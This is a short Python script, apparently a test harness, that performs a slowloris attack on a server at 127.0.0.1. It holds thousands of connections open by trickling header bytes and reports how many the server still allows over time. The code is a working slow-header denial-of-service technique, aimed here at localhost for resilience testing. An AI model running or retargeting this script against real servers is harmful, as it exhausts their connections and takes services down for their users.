#!/usr/bin/env python3
# python3 slowloris.py [N=5000] [PORT=18080]
# N connections from one address trickling a request head, one header byte every 2 s; prints how many are still
# open as time goes by (the server closes what it refuses or what took too long).
import resource, socket, sys, time
n = int(sys.argv[1]) if len(sys.argv) > 1 else 5000
port = int(sys.argv[2]) if len(sys.argv) > 2 else 18080
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 100), hard))
socks = []
for _ in range(n):
    s = socket.create_connection(("127.0.0.1", port))
    s.setblocking(False)
    s.send(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    socks.append(s)
start = time.time()
open_ = set(socks)
for t in (1, 5, 9, 12, 15):
    while time.time() - start < t:
        time.sleep(0.5)
        if int(time.time() - start) % 2 == 0:
            for s in list(open_):
                try:
                    s.send(b"X")
                except OSError:
                    open_.discard(s)
    # a full pass over every socket before counting
    for s in list(open_):
        try:
            if s.recv(4096) == b"":
                open_.discard(s)
        except BlockingIOError:
            pass
        except OSError:
            open_.discard(s)
    print(f"after {t:2d} s: {len(open_)} of {n} connections still open", flush=True)
